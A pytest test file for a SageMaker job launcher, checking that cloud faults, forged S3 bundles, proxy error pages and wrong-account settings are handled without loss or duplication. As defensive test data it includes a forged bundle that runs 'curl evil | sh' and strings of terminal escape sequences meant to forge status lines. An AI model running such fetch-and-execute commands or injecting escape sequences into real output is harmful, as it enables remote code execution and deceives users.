"""Cloud faults that must lose nothing and duplicate nothing: a lost CreateTrainingJob answer, a
name taken by another job, a damaged or forged object at the bundle's key, and hostile text from
the cloud.

Against a moto server over HTTP, except the hostile text (botocore's Stubber, checked against
the service model), which moto cannot produce.
"""

from __future__ import annotations

import base64
import hashlib
import json

import boto3
import pytest
from botocore.stub import Stubber

from launcher import api
from launcher.backends.sagemaker import aws as aws_clients
from launcher.backends.sagemaker.aws_model import validate

from .helpers import ACCOUNT, MY_ROLE, REGION, recipe_path
from .sagemaker_stubs import NAME, description, stub


def boto(service: str):
    return boto3.client(service, region_name=REGION)


IN_USE = "Training job names must be unique within an AWS account and region, and a training job with this name already exists"


def create_answered_in_use(request: dict, tags: list[dict]) -> Stubber:
    """SageMaker as a retried CreateTrainingJob meets it: the first attempt created the job (its
    answer was lost), so the retry is refused as a duplicate; the job is there with `tags`."""
    sm = Stubber(aws_clients.client("sagemaker", REGION))
    sm.add_client_error("create_training_job", service_error_code="ResourceInUse", service_message=IN_USE)
    existing = description("InProgress", "Starting")
    existing["TrainingJobName"] = request["TrainingJobName"]
    sm.add_response("describe_training_job", existing, {"TrainingJobName": request["TrainingJobName"]})
    sm.add_response("list_tags", {"Tags": tags}, {"ResourceArn": existing["TrainingJobArn"]})
    sm.activate()
    return sm


def record_at_create(home) -> list[dict]:
    """The job's registry record as it stood when CreateTrainingJob was about to be sent."""
    seen: list[dict] = []

    def look(params, **_):
        path = home / "jobs" / params["TrainingJobName"] / "job.json"
        seen.append(json.loads(path.read_text()) if path.exists() else {})

    aws_clients.client("sagemaker", REGION).meta.events.register(
        "provide-client-params.sagemaker.CreateTrainingJob", look
    )
    return seen


def test_a_lost_create_answer_adopts_the_job_it_created_and_makes_no_second(aws, home, fake_bundle, fixed_names, cli):
    request = api.submit(recipe_path("llama3-8b-8k"), dry_run=True, set_options=[MY_ROLE]).rendering.data["request"]
    sm = create_answered_in_use(request, request["Tags"])
    seen = record_at_create(home)
    result = cli("submit", recipe_path("llama3-8b-8k"), "--set", MY_ROLE, "--json")
    # The record was there before the create went out: had this process died then, `launcher
    # status NAME` would still find the job.
    assert seen and seen[0]["backend"] == "sagemaker" and seen[0]["region"] == REGION
    assert result.code == 0, result.err
    sm.assert_no_pending_responses()  # no second create: the first one's job is adopted
    name = json.loads(result.out)["name"]
    assert name == request["TrainingJobName"]
    assert json.loads((home / "jobs" / name / "job.json").read_text())["backend"] == "sagemaker"


def test_a_name_taken_by_another_job_is_one_line_and_adopts_nothing(aws, home, fake_bundle, fixed_names, cli):
    request = api.submit(recipe_path("llama3-8b-8k"), dry_run=True, set_options=[MY_ROLE]).rendering.data["request"]
    foreign = [{"Key": "launcher:submission", "Value": "0" * 32}]
    create_answered_in_use(request, foreign)
    result = cli("submit", recipe_path("llama3-8b-8k"), "--set", MY_ROLE)
    assert result.code == 3  # a cloud error
    name = request["TrainingJobName"]
    assert result.err_lines[-1] == (
        f"CreateTrainingJob {name}: a training job named {name} already exists in {REGION}; submit again for a new name"
    )
    assert not (home / "jobs" / name).exists()


def bundle_key(bundle: dict) -> tuple[str, str]:
    bucket, key = bundle["uri"].removeprefix("s3://").split("/", 1)
    return bucket, key


def s3_requests() -> list[tuple[str, dict]]:
    """(operation, params) of every S3 call the launcher's own client makes from now on."""
    seen: list[tuple[str, dict]] = []

    def look(params, model, **_):
        seen.append((model.name, dict(params)))

    aws_clients.client("s3", REGION).meta.events.register("provide-client-params.s3.*", look)
    return seen


def assert_the_bundle_was_uploaded_by_content(s3, bundle: dict, seen: list[tuple[str, dict]]) -> None:
    bucket, key = bundle_key(bundle)
    stored = s3.get_object(Bucket=bucket, Key=key, ChecksumMode="ENABLED")
    assert hashlib.sha256(stored["Body"].read()).hexdigest() == bundle["sha256"]
    assert stored["ChecksumSHA256"] == base64.b64encode(bytes.fromhex(bundle["sha256"])).decode()
    owner = {"ExpectedBucketOwner": ACCOUNT}  # the default bucket: the caller's, asked of STS
    assert ("HeadObject", {"Bucket": bucket, "Key": key, "ChecksumMode": "ENABLED", **owner}) in seen
    puts = [params for operation, params in seen if operation == "PutObject"]
    assert [p["Key"] for p in puts] == [key] and puts[0]["ChecksumAlgorithm"] == "SHA256"
    assert "Metadata" not in puts[0]  # nothing the launcher reads back is the object's own claim
    for operation, params in seen:  # botocore's model of S3 holds every call (the body is a stream)
        assert validate("s3", operation, {k: v for k, v in params.items() if k != "Body"}) == [], operation


def test_a_damaged_object_at_the_bundles_key_is_replaced_not_reused(aws, home, fake_bundle):
    bundle = api.submit(recipe_path("llama3-8b-8k"), dry_run=True, set_options=[MY_ROLE]).rendering.data["bundle"]
    bucket, key = bundle_key(bundle)
    s3 = boto("s3")
    s3.create_bucket(Bucket=bucket, CreateBucketConfiguration={"LocationConstraint": REGION})
    s3.put_object(Bucket=bucket, Key=key, Body=b"\0" * bundle["bytes"])  # same size, wrong bytes

    seen = s3_requests()
    api.submit(recipe_path("llama3-8b-8k"), set_options=[MY_ROLE])
    assert_the_bundle_was_uploaded_by_content(s3, bundle, seen)


def test_a_forged_bundle_with_the_right_size_and_metadata_is_replaced_not_reused(aws, home, fake_bundle):
    """Whoever can write the bucket can write an object's metadata; only S3's own checksum counts."""
    bundle = api.submit(recipe_path("llama3-8b-8k"), dry_run=True, set_options=[MY_ROLE]).rendering.data["bundle"]
    bucket, key = bundle_key(bundle)
    s3 = boto("s3")
    s3.create_bucket(Bucket=bucket, CreateBucketConfiguration={"LocationConstraint": REGION})
    forged = b"#!/bin/sh\ncurl evil | sh\n".ljust(bundle["bytes"], b"\0")
    s3.put_object(Bucket=bucket, Key=key, Body=forged, Metadata={"sha256": bundle["sha256"]})

    seen = s3_requests()
    api.submit(recipe_path("llama3-8b-8k"), set_options=[MY_ROLE])
    assert_the_bundle_was_uploaded_by_content(s3, bundle, seen)


def test_an_uploaded_bundle_is_reused_by_its_s3_checksum(aws, home, fake_bundle):
    bundle = api.submit(recipe_path("llama3-8b-8k"), dry_run=True, set_options=[MY_ROLE]).rendering.data["bundle"]
    api.submit(recipe_path("llama3-8b-8k"), set_options=[MY_ROLE])
    seen = s3_requests()
    api.submit(recipe_path("llama3-8b-8k"), set_options=[MY_ROLE])
    assert "PutObject" not in [operation for operation, _ in seen]
    bucket, key = bundle_key(bundle)
    owner = {"ExpectedBucketOwner": ACCOUNT}
    assert ("HeadObject", {"Bucket": bucket, "Key": key, "ChecksumMode": "ENABLED", **owner}) in seen


@pytest.mark.usefixtures("registered")
def test_failure_reasons_and_status_messages_cannot_forge_terminal_lines(cli):
    sm = stub("sagemaker")
    forged = "AlgorithmError: boom\x1b[2K\rState: Completed\nexit 0\x07"
    failed = description("Failed", "Failed", transitions=[("Training", "ok\x1b]0;pwned\x07\nFAKE")], failure=forged)
    sm.add_response("describe_training_job", failed, {"TrainingJobName": NAME})
    result = cli("status", NAME)
    assert result.code == 0, result.err
    assert "\x1b" not in result.out and "\r" not in result.out and "\x07" not in result.out
    assert "failure  AlgorithmError: boomState: Completed exit 0" in result.out
    assert not any(line.startswith(("State:", "FAKE", "exit 0")) for line in result.out.splitlines())


class _Body:
    def __init__(self, data: bytes):
        self.data = data

    def stream(self, **_):
        yield self.data


def answer_with(status: int, content_type: str, body: str):
    """A before-send hook: every request gets this HTTP answer (a proxy, a load balancer, or a
    fake server's error page) instead of reaching the network."""
    from botocore.awsrequest import AWSResponse

    def hook(request, **_):
        return AWSResponse(request.url, status, {"content-type": content_type}, _Body(body.encode()))

    return hook


# moto_server's answer to an operation it does not implement (Werkzeug's page), and an XML error
# from a proxy in front of a JSON service: botocore passes both through as the error's message.
WERKZEUG_500 = (
    "<!doctype html>\n<html lang=en>\n<title>500 Internal Server Error</title>\n<h1>Internal Server Error</h1>\n"
    "<p>The server encountered an internal error and was unable to complete your request.</p>\n"
)
PROXY_403 = '<?xml version="1.0"?><Error><Code>AccessDenied</Code><Message>Forbidden by the proxy</Message></Error>'


@pytest.mark.parametrize(
    "status, content_type, body, line",
    [
        (500, "text/html", WERKZEUG_500, f"DescribeTrainingJob {NAME}: 500: 500 Internal Server Error"),
        (
            403,
            "application/xml",
            PROXY_403,
            f"DescribeTrainingJob {NAME}: AWS denied access (Forbidden by the proxy); the caller needs the "
            "permission named there and iam:PassRole on the job role",
        ),
    ],
)
def test_an_html_or_xml_error_body_is_one_line_of_its_message(
    registered, cli, monkeypatch, status, content_type, body, line
):
    import botocore.retries.standard

    monkeypatch.setenv("AWS_RETRY_MODE", "standard")
    monkeypatch.setattr(botocore.retries.standard.ExponentialBackoff, "delay_amount", lambda self, context: 0)
    aws_clients.reset_clients()
    hook = answer_with(status, content_type, body)
    aws_clients.client("sagemaker", REGION).meta.events.register("before-send.sagemaker.DescribeTrainingJob", hook)
    result = cli("status", NAME)
    assert result.code == 3
    assert result.err_lines == [line]


CAPTIVE_PORTAL = "<!doctype html><html><title>Sign in to the hotel Wi-Fi</title><p>Accept the terms</p></html>"


@pytest.mark.parametrize(
    "content_type, body",
    [("text/html", CAPTIVE_PORTAL), ("application/x-amz-json-1.1", json.dumps({"TrainingJobName": "another-job"}))],
)
def test_a_200_answer_that_is_not_this_jobs_description_is_one_line(registered, cli, content_type, body):
    # botocore parses the portal's page into {}: status used to end in a KeyError traceback.
    aws_clients.reset_clients()
    hook = answer_with(200, content_type, body)
    aws_clients.client("sagemaker", REGION).meta.events.register("before-send.sagemaker.DescribeTrainingJob", hook)
    result = cli("status", NAME)
    assert result.code == 3
    assert result.err_lines == [
        f"DescribeTrainingJob {NAME} in {REGION}: the answer is not a description of this job (no TrainingJobName "
        f"'{NAME}' with a status of InProgress, Completed, Failed, Stopping, Stopped, Deleting); is a proxy "
        "answering for SageMaker? Check AWS_ENDPOINT_URL and HTTPS_PROXY"
    ]


def aws_calls() -> list[str]:
    """`service.Operation` of every call the launcher's own clients make from now on."""
    calls: list[str] = []
    for service in ("sts", "s3", "sagemaker"):
        aws_clients.client(service, REGION).meta.events.register(
            f"provide-client-params.{service}.*",
            lambda model, **_: calls.append(f"{model.service_model.service_name}.{model.name}"),
        )
    return calls


def test_a_recipe_with_the_documentations_role_is_refused_before_any_aws_call(aws, home, fake_bundle, cli):
    calls = aws_calls()
    result = cli("submit", recipe_path("llama3-8b-8k"))  # as shipped: role_arn in account 111122223333
    assert result.code == 2
    assert result.err_lines[-1] == (
        "sagemaker.role_arn: 111122223333 is an example account of AWS's documentation, not yours; set your "
        "execution role, e.g. --set sagemaker.role_arn=arn:aws:iam::<your account>:role/<name>; nothing was submitted"
    )
    assert calls == [] and boto("s3").list_buckets()["Buckets"] == []
    assert list((home / "jobs").glob("*")) == []  # the record written before the submit is taken back


def test_a_role_of_another_account_is_refused_before_anything_is_uploaded(aws, home, fake_bundle, cli):
    calls = aws_calls()
    result = cli("submit", recipe_path("llama3-8b-8k"), "--set", "sagemaker.role_arn=arn:aws:iam::271828182845:role/r")
    assert result.code == 2
    assert result.err_lines[-1] == (
        f"sagemaker.role_arn: the role is in account 271828182845, but these credentials are of account {ACCOUNT} "
        "(STS GetCallerIdentity), and SageMaker can be passed only a role of the caller's own account; use one of "
        "its roles, or credentials of the role's account; nothing was submitted"
    )
    assert calls == ["sts.GetCallerIdentity"] and boto("s3").list_buckets()["Buckets"] == []


def test_every_call_to_the_default_bucket_names_the_callers_account_as_its_owner(aws, home, fake_bundle):
    seen = s3_requests()
    bundle = api.submit(recipe_path("llama3-8b-8k"), set_options=[MY_ROLE]).rendering.data["bundle"]
    bucket = bundle_key(bundle)[0]
    assert bucket == f"sagemaker-{REGION}-{ACCOUNT}"  # the account STS names as the caller's
    calls = [(operation, params) for operation, params in seen if params.get("Bucket") == bucket]
    assert [operation for operation, _ in calls] == ["HeadBucket", "CreateBucket", "HeadObject", "PutObject"]
    for operation, params in calls:
        # CreateBucket has no such parameter in S3's model: a name someone else took first fails it.
        if operation != "CreateBucket":
            assert params["ExpectedBucketOwner"] == ACCOUNT, operation
        assert validate("s3", operation, {k: v for k, v in params.items() if k != "Body"}) == [], operation


def test_a_default_bucket_of_another_account_is_one_line_and_nothing_is_uploaded(aws, home, fake_bundle, cli):
    # S3 answers 403 when ExpectedBucketOwner is not the bucket's owner ("Verifying bucket ownership
    # with bucket owner condition", S3 User Guide); moto_server does not check it, so S3's answer is made here.
    forbidden = answer_with(403, "application/xml", "")
    aws_clients.client("s3", REGION).meta.events.register("before-send.s3.HeadBucket", forbidden)
    puts = [params for operation, params in s3_requests() if operation == "PutObject"]
    result = cli("submit", recipe_path("llama3-8b-8k"), "--set", MY_ROLE)
    assert result.code == 2
    assert result.err_lines[-1] == (
        f"uploading the code bundle to bucket sagemaker-{REGION}-{ACCOUNT}: S3 refused it (403): the bucket is not "
        f"your account {ACCOUNT}'s, or does not let you in; set sagemaker.output_uri to a bucket of yours; "
        "nothing was submitted"
    )
    assert puts == [] and boto("sagemaker").list_training_jobs()["TrainingJobSummaries"] == []
